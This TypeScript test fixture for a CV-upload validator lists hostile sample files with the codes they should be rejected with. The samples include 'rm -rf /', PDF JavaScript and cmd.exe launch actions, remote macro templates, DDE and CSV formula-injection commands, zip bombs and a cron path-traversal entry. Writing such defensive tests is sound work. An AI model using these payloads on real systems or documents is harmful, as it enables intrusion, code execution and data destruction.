import { deflateSync } from 'node:zlib'
import { docxParts, flatPng, odsParts, oleOf, pdf, zeros, zipOf } from './attack-files.ts'

const MEGABYTE = 1024 * 1024

/** A PDF whose objects lie packed in a stream, as new office programs write them. */
const packedPdf = (objects: string, { filter = '/FlateDecode', type = '/Type/ObjStm' } = {}): Buffer => {
  const data = deflateSync(Buffer.from(objects))
  const head = `5 0 obj<<${type}/N 1/First 4/Filter ${filter}/Length ${data.length}>>stream\n`
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n${head}`),
    data,
    Buffer.from('\nendstream endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n'),
  ])
}

const relation = (type: string, target: string, mode = 'External') => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
})
const body = (xml: string) => [
  { name: '[Content_Types].xml', content: '<Types/>' },
  { name: 'word/document.xml', content: `<w:document>${xml}</w:document>` },
]
const sheet = (xml: string) =>
  odsParts().map((part) => (part.name === 'content.xml' ? { ...part, content: xml } : part))
const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const program = Buffer.from('4d5a90000300000004000000ffff0000', 'hex')
const script = '<html><script>alert(1)</script></html>'

export type Paper = readonly [what: string, name: string, bytes: Buffer, code: string]

/** What somebody could send in place of a CV, under which name, and what we say to it. */
export const hostilePapers: readonly Paper[] = [
  ['a program behind two endings', 'cv.pdf.exe', pdf(), 'file_extension_wrong'],
  ['a program that calls itself PDF', 'cv.exe.pdf', program, 'file_extension_wrong'],
  ['a program that calls itself DOC', 'cv.doc', program, 'file_extension_wrong'],
  ['a picture as PDF', 'cv.pdf', flatPng(20, 20), 'file_extension_wrong'],
  ['a picture as it is', 'cv.png', flatPng(20, 20), 'file_extension_wrong'],
  ['a page as CSV', 'cv.csv', Buffer.from(script), 'file_extension_wrong'],
  ['a drawing with a script', 'cv.svg', Buffer.from('<svg onload="x"/>'), 'file_extension_wrong'],
  ['RTF as DOC', 'cv.doc', Buffer.from('{\\rtf1 {\\object\\objdata 01}}'), 'file_extension_wrong'],
  ['RTF as CSV', 'cv.csv', Buffer.from('{\\rtf1 hello}'), 'file_extension_wrong'],
  ['a script of a shell as CSV', 'cv.csv', Buffer.from('#!/bin/sh\nrm -rf /\n'), 'file_extension_wrong'],
  ['a document of another kind', 'cv.docx', pdf(), 'file_extension_wrong'],
  ['a name that turns round', 'cv\u202efdp.exe', pdf(), 'file_extension_wrong'],
  ['an empty file', 'cv.pdf', Buffer.alloc(0), 'file_required'],
  ['one byte', 'cv.pdf', Buffer.from('%'), 'file_extension_wrong'],
  ['more than the cap', 'cv.pdf', Buffer.concat([pdf(), Buffer.alloc(5 * MEGABYTE)]), 'file_too_large'],
  ['a PDF cut off', 'cv.pdf', pdf().subarray(0, 60), 'file_unreadable'],
  ['a PDF that is a page', 'cv.pdf', pdf(script), 'file_unsafe'],
  ['a PDF that is an archive', 'cv.pdf', Buffer.concat([pdf(), zipOf(docxParts())]), 'file_unsafe'],
  ['a PDF with a script', 'cv.pdf', pdf('2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj'), 'file_unsafe'],
  [
    'a PDF with a script in other letters',
    'cv.pdf',
    pdf('2 0 obj<</S/J#61vaScript/J#53(x)>>endobj'),
    'file_unsafe',
  ],
  [
    'a PDF with a script behind a comment',
    'cv.pdf',
    pdf('2 0 obj<</S%x\n/Launch/F(cmd)>>endobj'),
    'file_unsafe',
  ],
  [
    'a PDF that acts when opened',
    'cv.pdf',
    pdf('<</OpenAction<</S/URI/URI(http://x.example)>>>>'),
    'file_unsafe',
  ],
  ['a PDF that starts a program', 'cv.pdf', pdf('2 0 obj<</S/Launch/F(cmd.exe)>>endobj'), 'file_unsafe'],
  ['a PDF with a file in it', 'cv.pdf', pdf('2 0 obj<</Type/Filespec/EF<</F 3 0 R>>>>endobj'), 'file_unsafe'],
  ['a PDF with names of files', 'cv.pdf', pdf('<</Names<</EmbeddedFiles 4 0 R>>>>'), 'file_unsafe'],
  ['a PDF with a packed script', 'cv.pdf', packedPdf('2 0 <</S/JavaScript/JS(x)>>'), 'file_unsafe'],
  [
    'a PDF with a packed script in other letters',
    'cv.pdf',
    packedPdf('2 0 <</S/#4aavaScript>>'),
    'file_unsafe',
  ],
  [
    'a PDF whose packing nobody uses',
    'cv.pdf',
    packedPdf('2 0 <<>>', { filter: '[/ASCIIHexDecode/FlateDecode]' }),
    'file_unsafe',
  ],
  [
    'a PDF that hides its packed objects',
    'cv.pdf',
    packedPdf('2 0 <</S/Launch>>', { type: '' }),
    'file_unsafe',
  ],
  ['a PDF that inflates without end', 'cv.pdf', packedPdf(' '.repeat(40 * MEGABYTE)), 'file_unsafe'],
  [
    'objects in what calls itself a stream',
    'cv.pdf',
    pdf('% >>stream\n2 0 obj<</S/JavaScript>>endobj\n% endstream'),
    'file_unsafe',
  ],
  ['a PDF behind a password', 'cv.pdf', pdf('trailer<</Encrypt 9 0 R>>'), 'file_unreadable'],
  [
    'a letter with macros',
    'cv.docx',
    zipOf(docxParts({ name: 'word/vbaProject.bin', content: 'x' })),
    'file_unsafe',
  ],
  [
    'a letter with macros in other letters',
    'cv.docx',
    zipOf(docxParts({ name: 'word/VBAPROJECT.BIN', content: 'x' })),
    'file_unsafe',
  ],
  [
    'a DOCM under another name',
    'cv.docx',
    zipOf([
      { name: '[Content_Types].xml', content: `<Override ContentType="${macroType}"/>` },
      ...docxParts().slice(1),
    ]),
    'file_unsafe',
  ],
  [
    'a letter with a template from elsewhere',
    'cv.docx',
    zipOf(docxParts(relation('attachedTemplate', 'http://x.example/t.dotm'))),
    'file_unsafe',
  ],
  [
    'the same in figures of letters',
    'cv.docx',
    zipOf(docxParts(relation('attachedTemplate', 'http://x.example/t', 'Extern&#x61;l'))),
    'file_unsafe',
  ],
  [
    'a letter with a link to a program',
    'cv.docx',
    zipOf(docxParts(relation('hyperlink', 'ms-msdt:/id'))),
    'file_unsafe',
  ],
  [
    'a letter with a picture from elsewhere',
    'cv.docx',
    zipOf(docxParts(relation('image', 'http://x.example/i.png'))),
    'file_unsafe',
  ],
  [
    'a letter with an object',
    'cv.docx',
    zipOf(docxParts({ name: 'word/embeddings/oleObject1.bin', content: 'x' })),
    'file_unsafe',
  ],
  [
    'a letter with a control',
    'cv.docx',
    zipOf(docxParts({ name: 'word/activeX/activeX1.xml', content: '<x/>' })),
    'file_unsafe',
  ],
  [
    'a letter with a command in pieces',
    'cv.docx',
    zipOf(body('<w:instrText>DDE</w:instrText><w:t/><w:instrText>AUTO c:\\\\cmd.exe</w:instrText>')),
    'file_unsafe',
  ],
  [
    'a letter with entities of its own',
    'cv.docx',
    zipOf(body('<!DOCTYPE x [<!ENTITY a "b">]>')),
    'file_unsafe',
  ],
  [
    'a sheet with Basic',
    'cv.ods',
    zipOf(odsParts({ name: 'Basic/Standard/Module1.xml', content: '<x/>' })),
    'file_unsafe',
  ],
  [
    'a sheet that runs on opening',
    'cv.ods',
    zipOf(sheet('<script:event-listener xlink:href="vnd.sun.star.script:x"/>')),
    'file_unsafe',
  ],
  [
    'a sheet that asks elsewhere',
    'cv.ods',
    zipOf(sheet('<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://x&quot;)"/>')),
    'file_unsafe',
  ],
  ['an old letter with macros', 'cv.doc', oleOf('WordDocument', 'Macros', 'VBA'), 'file_unsafe'],
  ['an old letter with macros in other letters', 'cv.doc', oleOf('WordDocument', 'mACROS'), 'file_unsafe'],
  ['an old letter with a file in it', 'cv.doc', oleOf('WordDocument', '\u0001Ole10Native'), 'file_unsafe'],
  [
    'a bomb',
    'cv.docx',
    zipOf(
      docxParts({
        name: 'word/a.xml',
        content: '',
        deflated: zeros(4),
        claims: { inflatedBytes: 64 * MEGABYTE, crc32: 0 },
      }),
    ),
    'file_unsafe',
  ],
  [
    'a bomb that lies',
    'cv.docx',
    zipOf(
      docxParts({
        name: 'word/a.xml',
        content: '',
        deflated: zeros(4),
        claims: { inflatedBytes: 100, crc32: 0 },
      }),
    ),
    'file_unsafe',
  ],
  [
    'an archive in an archive',
    'cv.docx',
    zipOf(docxParts({ name: 'word/media/a.png', content: zipOf(docxParts()) })),
    'file_unsafe',
  ],
  [
    'entries that share their bytes',
    'cv.docx',
    zipOf(
      Array.from({ length: 9 }, () => ({ name: 'word/document.xml', content: 'x'.repeat(1000) })),
      { overlap: true },
    ),
    'file_unsafe',
  ],
  [
    'a name that leaves its folder',
    'cv.docx',
    zipOf(docxParts({ name: '../../etc/cron.d/x', content: 'x' })),
    'file_unsafe',
  ],
  [
    'an encrypted archive',
    'cv.docx',
    zipOf(docxParts({ name: 'word/a.xml', content: 'x', claims: { flags: 1 } })),
    'file_unsafe',
  ],
  ['a letter cut off', 'cv.docx', zipOf(docxParts()).subarray(0, 200), 'file_unreadable'],
  [
    'a table with a formula',
    'cv.csv',
    Buffer.from('ism;tajriba\nAli;=HYPERLINK("http://x.example")\n'),
    'file_unsafe',
  ],
  [
    'a table with a command',
    'cv.csv',
    Buffer.from('ism;tajriba\nAli;"+cmd|\' /C calc\'!A0"\n'),
    'file_unsafe',
  ],
  ['a table with NULs', 'cv.csv', Buffer.from('a;b\0c'), 'file_extension_wrong'],
  ['a table in UTF-16', 'cv.csv', Buffer.from('\ufeffism;tajriba', 'utf16le'), 'file_extension_wrong'],
]

const link = relation('hyperlink', 'https://github.com/dilnoza')

/** What people really send, close to what is refused. */
export const honestPapers: readonly (readonly [what: string, name: string, bytes: Buffer, kept: string])[] = [
  ['a PDF with a page to begin at', 'cv.pdf', pdf('<</OpenAction[3 0 R/XYZ null null 0]>>'), 'cv.pdf'],
  [
    'a PDF of TeX',
    'cv.pdf',
    packedPdf('2 0 <</S/GoTo/D[3 0 R/Fit]>> <</OpenAction 2 0 R/S/URI/URI(https://x.example)>>'),
    'cv.pdf',
  ],
  ['a PDF about scripts', 'cv.pdf', pdf('4 0 obj<</Title(HTML/JavaScript, CSS/JS)>>endobj'), 'cv.pdf'],
  ['a PDF that was to look like a program', 'cv.exe.pdf', pdf(), 'cv_exe.pdf'],
  ['a letter with a link', 'Karimova D.A. CV.docx', zipOf(docxParts(link)), 'Karimova D.A. CV.docx'],
  ['a letter about links', 'cv.docx', zipOf(body('<w:t>DDE, LINK, JavaScript</w:t>')), 'cv.docx'],
  ['a sheet', 'cv.ods', zipOf(odsParts()), 'cv.ods'],
  ['an old letter', 'cv.doc', oleOf('WordDocument', '1Table', 'ObjectPool'), 'cv.doc'],
  [
    'a table with phones, dashes and names',
    'cv.csv',
    Buffer.from('Ali,+998 (90) 111-22-33,@ali_uz\n- ish (3 yil);-5\n'),
    'cv.csv',
  ],
  ['a long name', `${'x'.repeat(300)}.pdf`, pdf(), `${'x'.repeat(100)}.pdf`],
  ['a name with a way and signs', '..\\..\\a\u202e\u0007b.pdf', pdf(), 'a b.pdf'],
]
